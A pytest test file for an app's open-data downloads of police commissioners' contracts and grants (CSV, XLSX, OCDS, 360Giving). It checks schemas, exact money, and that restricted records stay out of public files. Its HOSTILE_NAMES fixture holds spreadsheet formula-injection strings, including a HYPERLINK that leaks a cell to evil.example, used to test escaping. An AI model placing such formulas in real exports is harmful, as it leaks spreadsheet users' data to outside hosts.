"""Open-data downloads: CSV and XLSX that cannot inject formulas, an OCDS 1.1 release package and a 360Giving
package that validate against their schemas (local copies in tests/standards/, no network), exact money, and
no panel or restricted record in any public export.

Records the seed documents cannot supply (restricted "canary" records, a grant with a charity number and a
start date, providers with hostile names) are added inside a transaction that is rolled back, so the shared
seeded store is left as it was, on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import openpyxl.xml
import pandas as pd
import pytest
from jsonschema import Draft4Validator, Draft202012Validator, FormatChecker
from openpyxl import load_workbook
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT4, DRAFT202012
from sqlalchemy import Engine
from sqlmodel import Session

from data_access import exporting, public, queries
from data_access.models import Agreement, Amendment, Audience, Budget, Observation, Provider, Spend

STANDARDS = Path(__file__).parent / "standards"
PUBLISHED = datetime(2026, 1, 5, 9, 30, tzinfo=UTC)
AREAS = ("derbyshire", "norfolk", "west-yorkshire")
CANARY = "CANARY"
HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "@SUM(1)", "+1+2", "-2+3", "\tTabbed", "\rReturned")


# --- schema validators, with the $refs resolved to the local copies ---------------------------------

_RFC3339 = re.compile(r"^\d{4}-\d{2}-\d{2}[Tt]\d{2}:\d{2}:\d{2}(\.\d+)?([Zz]|[+-]\d{2}:\d{2})$")
FORMATS = FormatChecker()


@FORMATS.checks("date-time", raises=ValueError)
def _is_date_time(value: object) -> bool:
    """RFC 3339 date-time, as JSON Schema means it: a date alone is not one."""
    if not isinstance(value, str):
        return True
    if not _RFC3339.match(value):
        return False
    datetime.fromisoformat(value.replace("Z", "+00:00").replace("z", "+00:00"))
    return True


@FORMATS.checks("uri")
def _is_uri(value: object) -> bool:
    if not isinstance(value, str):
        return True
    parts = urlsplit(value)
    return bool(parts.scheme) and bool(parts.netloc or parts.path)


def _schema(*parts: str) -> dict[str, Any]:
    return json.loads(STANDARDS.joinpath(*parts).read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def ocds_validator() -> Draft4Validator:
    package, release = _schema("ocds-1.1", "release-package-schema.json"), _schema("ocds-1.1", "release-schema.json")
    registry = Registry().with_resource(release["id"], Resource.from_contents(release, default_specification=DRAFT4))
    return Draft4Validator(package, registry=registry, format_checker=FORMATS)


@pytest.fixture(scope="module")
def grants_validator() -> Draft202012Validator:
    package, grant = _schema("360giving", "360-giving-package-schema.json"), _schema("360giving", "360-giving-schema.json")
    resource = Resource.from_contents(grant, default_specification=DRAFT202012)
    # The package refers to the grant schema of release 1.4.2; the copy here is 1.4.3, with the same structure.
    referenced = package["properties"]["grants"]["items"]["$ref"]
    registry = Registry().with_resources([(grant["$id"], resource), (referenced, resource)])
    return Draft202012Validator(package, registry=registry, format_checker=FORMATS)


def errors(validator, document: dict[str, Any]) -> list[str]:
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in validator.iter_errors(document)]


def nulls(document: Any, path: str = "") -> list[str]:
    """Where a JSON document has a null: the exports leave out what they do not know instead."""
    if document is None:
        return [path]
    if isinstance(document, dict):
        return [p for key, value in document.items() for p in nulls(value, f"{path}/{key}")]
    if isinstance(document, list):
        return [p for index, value in enumerate(document) for p in nulls(value, f"{path}/{index}")]
    return []


# --- the public frames, as the pages get them -----------------------------------------------------


def frames(session: Session, area: str, year: int | None = None, audience: Audience = Audience.PUBLIC) -> dict[str, pd.DataFrame]:
    """Every public frame for an area (and year), with `audience` (the pages always use PUBLIC)."""
    result = {
        "agreements": public.published_agreements(session=session, area=area, audience=audience),
        "amendments": queries.amendments(session=session, area=area, audience=audience, published_only=True),
        "performance": public.published_performance(session=session, area=area, audience=audience),
    }
    if year is not None:
        result["by_stream"] = queries.budget_and_spend_by_funding_stream(
            session=session, area=area, year=year, audience=audience, published_only=True
        )
        result["by_priority"] = queries.budget_and_spend_by_priority(
            session=session, area=area, year=year, audience=audience, published_only=True
        )
    return result


def every_export(found: dict[str, pd.DataFrame]) -> dict[str, bytes]:
    """Every download the public pages offer for these frames: CSV and XLSX of each table, OCDS and 360Giving."""
    agreements, amendments = found["agreements"], found["amendments"]
    tables = {
        "contracts": exporting.agreements_download(agreements[agreements["kind"] != "grant"], amendments),
        "grants": exporting.agreements_download(agreements[agreements["kind"] == "grant"], amendments),
        "performance": exporting.performance_download(found["performance"]),
    }
    if "by_stream" in found:
        tables["by_stream"] = exporting.money_download(found["by_stream"], name="funding_stream", heading="Stream", area="A", year="Y")
        tables["by_priority"] = exporting.money_download(found["by_priority"], name="priority", heading="Priority", area="A", year="Y")
    files = {f"{name}.csv": exporting.csv_bytes(table) for name, table in tables.items()}
    files |= {f"{name}.xlsx": exporting.xlsx_bytes(table, sheet=name) for name, table in tables.items()}
    ocds = exporting.ocds_release_package(agreements, amendments, published=PUBLISHED)
    grants = exporting.grants_360_package(agreements, published=PUBLISHED)
    files |= {"ocds.json": exporting.json_bytes(ocds or {}), "360giving.json": exporting.json_bytes(grants or {})}
    return files


def xlsx_text(data: bytes) -> str:
    """Every cell value of every sheet of a workbook, as text."""
    workbook = load_workbook(io.BytesIO(data))
    return "\n".join(str(c.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None)


def export_text(name: str, data: bytes) -> str:
    return xlsx_text(data) if name.endswith(".xlsx") else data.decode("utf-8-sig")


# --- records the seed cannot supply, rolled back after each test ----------------------------------


def _cited(**fields: Any) -> dict[str, Any]:
    return {"source_id": "wy-2018", "source_section": "test record", "basis": "reported", **fields}


@pytest.fixture
def test_records(engine: Engine) -> Iterator[Session]:
    """The seeded store plus: panel and restricted canaries (an agreement, a grant, an amendment, a budget, spend,
    observations), a public grant with charity and company numbers and a start date, and public grants to providers
    with hostile names. Everything is rolled back at the end."""
    connection = engine.connect()
    transaction = connection.begin()
    session = Session(bind=connection, join_transaction_mode="create_savepoint")
    session.add_all(
        [
            Provider(id="canary-provider", name=f"{CANARY} provider", **_cited()),
            Provider(id="community-trust", name="Community Safety Trust", charity_number="01234567", company_number="00098765", **_cited()),
            *[Provider(id=f"hostile-{i}", name=name, **_cited()) for i, name in enumerate(HOSTILE_NAMES)],
        ]
    )
    session.flush()
    session.add_all(
        [
            Agreement(
                id="canary-panel-contract",
                area_id="west-yorkshire",
                title=f"{CANARY} panel contract",
                kind="contract",
                provider_id="canary-provider",
                total_value_pence=1_234_567_800,
                status="active",
                visibility="panel",
                **_cited(),
            ),
            Agreement(
                id="canary-restricted-grant",
                area_id="west-yorkshire",
                title=f"{CANARY} restricted grant",
                kind="grant",
                provider_id="canary-provider",
                start_date=date(2018, 4, 1),
                total_value_pence=4_444_400,
                status="active",
                purpose=f"{CANARY} purpose",
                visibility="restricted",
                **_cited(),
            ),
            Agreement(
                id="community-safety-grant",
                area_id="west-yorkshire",
                title="Community safety small grant",
                kind="grant",
                provider_id="community-trust",
                funding_stream_id="wy-moj",
                procurement_route="open",
                start_date=date(2019, 4, 1),
                current_end_date=date(2020, 3, 31),
                end_precision="month",
                total_value_pence=1_250_050,
                status="active",
                purpose="Street safety volunteers",
                **_cited(),
            ),
            *[
                Agreement(
                    id=f"hostile-grant-{i}",
                    area_id="west-yorkshire",
                    title=name,
                    kind="grant",
                    provider_id=f"hostile-{i}",
                    start_date=date(2019, 5, 1),
                    annual_value_pence=100_000,
                    status="active",
                    purpose=name,
                    **_cited(),
                )
                for i, name in enumerate(HOSTILE_NAMES)
            ],
        ]
    )
    session.flush()
    session.add_all(
        [
            Amendment(
                id="canary-amendment",
                agreement_id="wy-isva",
                kind="extension",
                new_end_date=date(2030, 3, 31),
                rationale=f"{CANARY} restricted extension",
                visibility="restricted",
                **_cited(),
            ),
            Budget(
                id="canary-budget",
                area_id="norfolk",
                financial_year=2016,
                funding_stream_id="nfk-moj",
                amount_pence=77_777_700,
                description=f"{CANARY} budget",
                visibility="panel",
                **_cited(source_id="norfolk-2016"),
            ),
            Spend(
                id="canary-spend",
                area_id="west-yorkshire",
                financial_year=2017,
                agreement_id="wy-hba-advice",
                amount_pence=444_400,
                description=f"{CANARY} spend",
                visibility="restricted",
                **_cited(),
            ),
            Observation(
                id="canary-observation",
                measure_id="isva-referrals",
                area_id="west-yorkshire",
                agreement_id="wy-isva",
                period_start=date(2017, 4, 1),
                period_end=date(2018, 3, 31),
                financial_year=2017,
                value=3,
                dimension="gender",
                dimension_value=f"{CANARY} part",
                visibility="panel",
                **_cited(),
            ),
            Observation(
                id="canary-observation-on-panel-contract",
                measure_id="isva-referrals",
                area_id="west-yorkshire",
                agreement_id="canary-panel-contract",
                period_start=date(2017, 4, 1),
                period_end=date(2018, 3, 31),
                financial_year=2017,
                value=4444,
                **_cited(),
            ),
        ]
    )
    session.flush()
    try:
        yield session
    finally:
        session.close()
        transaction.rollback()
        connection.close()


# --- no panel or restricted record in any public export --------------------------------------------


def test_canaries_are_in_the_store_for_staff(test_records: Session) -> None:
    # The control for the test below: the canaries are there, and a staff query finds them.
    staff = frames(test_records, "west-yorkshire", 2017, audience=Audience.STAFF)
    assert CANARY in staff["agreements"]["title"].str.cat()
    assert staff["amendments"]["rationale"].str.contains(CANARY).any()
    assert staff["by_stream"]["spend_pence"].dropna().sum() == 500_000 + 444_400


@pytest.mark.parametrize(("area", "year"), [("west-yorkshire", 2017), ("norfolk", 2016)])
def test_no_panel_or_restricted_record_in_any_public_export(test_records: Session, area: str, year: int) -> None:
    files = every_export(frames(test_records, area, year))
    for name, data in files.items():
        text = export_text(name, data)
        assert CANARY not in text, f"{name} holds a restricted record"
        for secret in ("12345678", "44444", "777777", "4444", "2030"):
            assert secret not in text, f"{name} holds {secret} from a restricted record"
    if area == "norfolk":
        assert "1037415" in files["by_stream.csv"].decode("utf-8-sig")  # the public MoJ grant, without the panel budget


def test_public_performance_ignores_records_the_public_may_not_see(test_records: Session) -> None:
    figures = public.published_performance(session=test_records, area="west-yorkshire", audience=Audience.PUBLIC)
    assert not figures["dimension_value"].str.contains(CANARY).any()
    assert "canary-panel-contract" not in set(figures["agreement"])
    assert (figures["disclosure_note"] != "suppressed: fewer than 10").all()


# --- CSV and XLSX: formulas made inert, numbers kept as numbers --------------------------------------


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_escape_formula(text: str) -> None:
    assert exporting.escape_formula(text) == "'" + text


def test_escape_formula_leaves_safe_text_and_numbers_alone() -> None:
    assert exporting.escape_formula("Victim Support") == "Victim Support"
    assert exporting.escape_formula("Sue Lambert Trust = charity") == "Sue Lambert Trust = charity"
    assert exporting.escape_formula(-5) == -5
    assert exporting.escape_formula(Decimal("-1234.50")) == Decimal("-1234.50")


def hostile_grants(session: Session) -> pd.DataFrame:
    agreements = public.published_agreements(session=session, area="west-yorkshire", audience=Audience.PUBLIC)
    return agreements[agreements["id"].str.startswith("hostile-grant-")]


def test_csv_of_hostile_names_is_inert(test_records: Session) -> None:
    table = exporting.agreements_download(hostile_grants(test_records), pd.DataFrame(columns=["agreement_id"]))
    rows = list(csv.DictReader(io.StringIO(exporting.csv_bytes(table).decode("utf-8-sig"))))
    assert sorted(r["Provider"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    assert sorted(r["Title"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(exporting.FORMULA_TRIGGERS), f"{column} = {value!r} would run as a formula"
        assert row["Annual value (£)"] == "1000"  # a number, not text and not escaped
        assert row["Start date"] == "2019-05-01"


def test_csv_keeps_numbers_as_numbers_and_money_exact() -> None:
    table = exporting.tidy(
        pd.DataFrame({"name": ["-5", "@x"], "amount_pence": [-500, 103741550], "count": [-3, 7]}),
        {"name": "Name", "amount_pence": "Amount (£)", "count": "Count"},
    )
    text = exporting.csv_bytes(table).decode("utf-8-sig")
    assert text.splitlines() == ["Name,Amount (£),Count", "'-5,-5,-3", "'@x,1037415.5,7"]


def test_xlsx_of_hostile_names_is_inert(test_records: Session) -> None:
    table = exporting.agreements_download(hostile_grants(test_records), pd.DataFrame(columns=["agreement_id"]))
    sheet = load_workbook(io.BytesIO(exporting.xlsx_bytes(table, sheet="Grants"))).active
    header = [c.value for c in sheet[1]]
    providers = [row[header.index("Provider")] for row in sheet.iter_rows(min_row=2)]
    # openpyxl's own XML writer leaves a carriage return bare, and XML reads it back as a line feed; with lxml installed
    # (libcoveocds, for the OCDS checks, brings it) it is written as &#13; and kept. The quote in front is what matters.
    kept = (lambda n: n) if openpyxl.xml.LXML else (lambda n: n.replace("\r", "\n"))
    assert sorted(c.value for c in providers) == sorted("'" + kept(n) for n in HOSTILE_NAMES)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(exporting.FORMULA_TRIGGERS), cell.coordinate
    values = next(sheet.iter_rows(min_row=2, values_only=True))
    assert values[header.index("Annual value (£)")] == 1000
    assert values[header.index("Start date")] == datetime(2019, 5, 1)


def test_xlsx_keeps_money_exact_and_numeric() -> None:
    table = exporting.tidy(pd.DataFrame({"amount_pence": [103741500, 123]}), {"amount_pence": "Amount (£)"})
    assert list(table["Amount (£)"]) == [Decimal("1037415"), Decimal("1.23")]
    sheet = load_workbook(io.BytesIO(exporting.xlsx_bytes(table, sheet="Money"))).active
    assert [c.value for c in sheet["A"]] == ["Amount (£)", 1037415, 1.23]


def test_seed_money_downloads_are_pounds(session: Session) -> None:
    by_stream = queries.budget_and_spend_by_funding_stream(
        session=session, area="norfolk", year=2016, audience=Audience.PUBLIC, published_only=True
    )
    table = exporting.money_download(by_stream, name="funding_stream", heading="Funding stream", area="Norfolk", year="2016/17")
    budgets = dict(zip(table["Funding stream"], table["Budget (£)"], strict=True))
    assert budgets == {"Ministry of Justice (MOJ) grant for victim's services": Decimal("1037415"), "Main police grant": Decimal("1018000")}
    assert set(table["Spend (£)"]) == {None}  # actual spend is not published (the sample's spend is illustrative)


def test_performance_download_holds_only_controlled_figures(session: Session) -> None:
    figures = public.published_performance(session=session, area="west-yorkshire", audience=Audience.PUBLIC)
    rows = list(csv.DictReader(io.StringIO(exporting.csv_bytes(exporting.performance_download(figures)).decode("utf-8-sig"))))
    counts = {r["As stated"]: (r["Figure"], r["Disclosure control"]) for r in rows if r["Unit"] == "count"}
    # West Yorkshire's report is a published document: the download holds its counts as published, as the page does.
    assert counts["average per quarter"] == ("224", "as published")
    assert counts["per annum, as stated"] == ("996", "as published")
    assert {r["Figure"] for r in rows if r["Measure"] == "Perpetrator programme referrals"} == {"5023"}
    assert not {"225", "995", "90", "5025"} & {r["Figure"] for r in rows}
    with pytest.raises(ValueError, match="disclosure control"):
        exporting.performance_download(figures.assign(value=1))


# --- OCDS 1.1 ----------------------------------------------------------------------------------------


def ocds_package(session: Session, area: str) -> dict[str, Any]:
    found = frames(session, area)
    package = exporting.ocds_release_package(found["agreements"], found["amendments"], published=PUBLISHED)
    assert package is not None
    return package


@pytest.mark.parametrize("area", AREAS)
def test_ocds_package_is_valid(session: Session, ocds_validator: Draft4Validator, area: str) -> None:
    package = ocds_package(session, area)
    assert errors(ocds_validator, package) == []
    assert nulls(package) == []
    assert package["version"] == "1.1"
    assert all(r["ocid"].startswith(exporting.OCID_PREFIX + "-") for r in package["releases"])
    assert {r["ocid"] for r in package["releases"]} == {
        exporting.ocid(i) for i in frames(session, area)["agreements"].query("kind != 'grant'")["id"]
    }


def test_the_date_checker_can_fail(ocds_validator: Draft4Validator, session: Session) -> None:
    package = ocds_package(session, "west-yorkshire")
    package["releases"][0]["date"] = "2018-09-14"  # a date, not a date-time
    assert any("date-time" in e for e in errors(ocds_validator, package))


def release(package: dict[str, Any], agreement_id: str) -> dict[str, Any]:
    return next(r for r in package["releases"] if r["ocid"] == exporting.ocid(agreement_id))


def test_ocds_west_yorkshire_isva(session: Session) -> None:
    isva = release(ocds_package(session, "west-yorkshire"), "wy-isva")
    contract = isva["contracts"][0]
    # Ends 31 March 2019 after its final one-year extension; the start date is illustrative in the sample, so it is left out.
    assert contract["period"] == {"endDate": "2019-03-31T23:59:59Z", "maxExtentDate": "2019-03-31T23:59:59Z"}
    assert contract["status"] == "active"
    assert contract["amendments"] == [
        {
            "id": "wy-isva-final-extension",
            "description": "Extension: end date moved from 31 March 2018 to 31 March 2019.",
            "rationale": "The PCC and Victim Support agreed to the final one year extension of the existing ISVA contract, "
            "to cover the period up to 31 March 2019",
        }
    ]  # no "date": the report does not say when it was agreed
    assert isva["awards"][0]["suppliers"] == [{"id": f"{exporting.OCID_PREFIX}-org-victim-support", "name": "Victim Support"}]
    assert "procurementMethod" not in isva["tender"]  # the report does not say how it was bought
    assert isva["date"] == "2018-09-14T00:00:00Z"  # the report's date
    assert "value" not in contract  # not published
    assert "Value not published." in contract["description"]
    # The kind of service, in this app's own vocabulary, as the tender's one item: compared like for like across areas.
    assert isva["tender"]["items"] == [
        {
            "id": "1",
            "description": "Independent Sexual Advisor Contract (ISVA)",
            "classification": {
                "scheme": "police-commissioning-service-type",
                "id": "isva",
                "description": "ISVA (independent sexual violence advisers)",
            },
        }
    ]


def test_an_agreement_with_no_service_type_has_no_items() -> None:
    assert exporting.service_classification({"service_type": None}) is None
    assert exporting.service_classification({"service_type": float("nan")}) is None
    assert exporting.service_classification({"service_type": "idva"}) == {
        "scheme": "police-commissioning-service-type",
        "id": "idva",
        "description": "IDVA (independent domestic violence advisers)",
    }


def test_ocds_method_value_and_planning(session: Session) -> None:
    package = ocds_package(session, "west-yorkshire")
    restorative = release(package, "wy-rj")
    assert restorative["tender"]["procurementMethod"] == "open"  # 'a formal EU tender exercise'
    assert restorative["contracts"][0]["period"] == {
        "startDate": "2018-04-01T00:00:00Z",
        "endDate": "2021-03-31T23:59:59Z",
        "maxExtentDate": "2022-03-31T23:59:59Z",
    }
    advice = release(package, "wy-hba-advice")
    assert advice["contracts"][0]["value"] == {"amount": 5000, "currency": "GBP"}  # '(value £5k)'
    assert advice["awards"][0]["value"] == {"amount": 5000, "currency": "GBP"}
    assert advice["contracts"][0]["status"] == "terminated"
    planned = release(package, "wy-isva-2019")
    assert planned["tag"] == ["planning"] and planned["tender"]["status"] == "planned"
    assert "awards" not in planned and "contracts" not in planned
    assert planned["tender"]["contractPeriod"] == {"startDate": "2019-04-01T00:00:00Z"}
    idva = release(ocds_package(session, "norfolk"), "nfk-idva")
    assert "Annual value £360,000; the total value is not published." in idva["contracts"][0]["description"]


def test_money_numbers_are_exact() -> None:
    assert exporting.money_number(103741500) == 1037415 and isinstance(exporting.money_number(103741500), int)
    assert exporting.money_number(103741550) == 1037415.5
    assert json.dumps(exporting.money_number(12)) == "0.12"


# --- 360Giving ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("area", AREAS)
def test_no_seed_grant_has_an_award_date_so_none_is_invented(session: Session, area: str) -> None:
    """The seed documents give no award or start date for any grant (West Yorkshire's Victims Champion start date
    is illustrative), so no 360Giving file is made for them, and the reason is given for each grant."""
    agreements = frames(session, area)["agreements"]
    assert exporting.grants_360_package(agreements, published=PUBLISHED) is None
    left_out = exporting.grants_left_out(agreements)
    assert set(left_out["id"]) == set(agreements.loc[agreements["kind"] == "grant", "id"])
    assert left_out["reason"].str.contains("an award or start date").all()
    if area == "norfolk":
        assert set(left_out["title"]) >= {"Support for Survivors of Sexual Abuse", "Norfolk Youth Offending Team"}


def test_360giving_package_is_valid(test_records: Session, grants_validator: Draft202012Validator) -> None:
    agreements = frames(test_records, "west-yorkshire")["agreements"]
    package = exporting.grants_360_package(agreements, published=PUBLISHED)
    assert package is not None
    assert errors(grants_validator, package) == []
    assert nulls(package) == []
    by_id = {g["id"]: g for g in package["grants"]}
    assert f"{exporting.ORG_ID_PREFIX_360G}-wy-victims-champion" not in by_id  # no published start date
    assert not any(CANARY in json.dumps(g) for g in package["grants"])
    grant = by_id[f"{exporting.ORG_ID_PREFIX_360G}-community-safety-grant"]
    required = {"id", "title", "description", "currency", "amountAwarded", "awardDate", "recipientOrganization", "fundingOrganization"}
    assert required <= set(grant)
    assert grant["amountAwarded"] == 12500.5
    assert grant["currency"] == "GBP"
    assert grant["awardDate"] == "2019-04-01T00:00:00Z"
    assert "start date (1 April 2019) is given as its award date" in grant["description"]
    assert grant["recipientOrganization"] == [
        {"id": "GB-CHC-01234567", "name": "Community Safety Trust", "charityNumber": "01234567", "companyNumber": "00098765"}
    ]
    office = "Office of the Police and Crime Commissioner for West Yorkshire"
    assert grant["fundingOrganization"] == [{"id": f"{exporting.ORG_ID_PREFIX_360G}-west-yorkshire", "name": office}]
    assert grant["plannedDates"] == [{"startDate": "2019-04-01T00:00:00Z", "endDate": "2020-03"}]  # end month only
    assert grant["grantProgramme"] == [{"title": "Ministry of Justice (MOJ) victims grant"}]
    assert grant["fromOpenCall"] == "Yes"
    hostile = by_id[f"{exporting.ORG_ID_PREFIX_360G}-hostile-grant-0"]
    assert hostile["recipientOrganization"][0]["id"] == f"{exporting.ORG_ID_PREFIX_360G}-hostile-0"
    assert "Amount is the published annual value" in hostile["description"]


def test_organisation_ids() -> None:
    assert exporting.organisation_id(internal_id="x", charity_number="1234567") == "GB-CHC-1234567"
    assert exporting.organisation_id(internal_id="x", company_number="01234567") == "GB-COH-01234567"
    assert exporting.organisation_id(internal_id="x", charity_number=" ", company_number=None) == "360G-XXXXXX-x"


# --- the public queries behind the downloads -------------------------------------------------------


def test_published_agreements_blank_illustrative_fields(session: Session) -> None:
    agreements = public.published_agreements(session=session, area="west-yorkshire", audience=Audience.PUBLIC).set_index("id")
    # The ISVA contract's start date (1 April 2015) is illustrative in the sample data: not published on the public pages.
    assert agreements.at["wy-isva", "start_date"] is None
    assert agreements.at["wy-isva", "current_end_date"] == date(2019, 3, 31)
    # 'contract' is illustrative for the honour based abuse advice project: the report does not say which it was.
    assert agreements.at["wy-hba-advice", "kind"] is None
    assert agreements.at["wy-hba-advice", "total_value_pence"] == 500_000  # '(value £5k)'
    assert not agreements.at["wy-hba-advice", "over_threshold"]  # £5,000: not a contract the Order asks for
    assert agreements.at["wy-core-referral", "over_threshold"]  # value not published, so it may be over £10,000
    norfolk = public.published_agreements(session=session, area="norfolk", audience=Audience.PUBLIC).set_index("id")
    assert norfolk.at["nfk-idva", "annual_value_pence"] == 36_000_000 and norfolk.at["nfk-idva", "over_threshold"]


def test_spend_reaches_a_priority_only_through_published_shares(test_records: Session) -> None:
    test_records.add_all(
        [
            # wy-isva serves 'Further developing the support available to victims and witnesses' (a derived, published link).
            Spend(id="isva-paid", area_id="west-yorkshire", financial_year=2017, agreement_id="wy-isva", amount_pence=100_001, **_cited()),
            # wy-rj's 50/50 split between two priorities is illustrative: its spend is not apportioned on it.
            Spend(id="rj-paid", area_id="west-yorkshire", financial_year=2017, agreement_id="wy-rj", amount_pence=99_999, **_cited()),
        ]
    )
    test_records.flush()
    frame = queries.budget_and_spend_by_priority(
        session=test_records, area="west-yorkshire", year=2017, audience=Audience.PUBLIC, published_only=True
    )
    spend = dict(zip(frame["priority"], frame["spend_pence"], strict=True))
    assert spend == {
        "Further developing the support available to victims and witnesses": 100_001,
        "Linked to no priority": 99_999 + 500_000,  # and the £5k honour based abuse advice project, linked to none
    }
    assert all(isinstance(v, int) for v in spend.values())
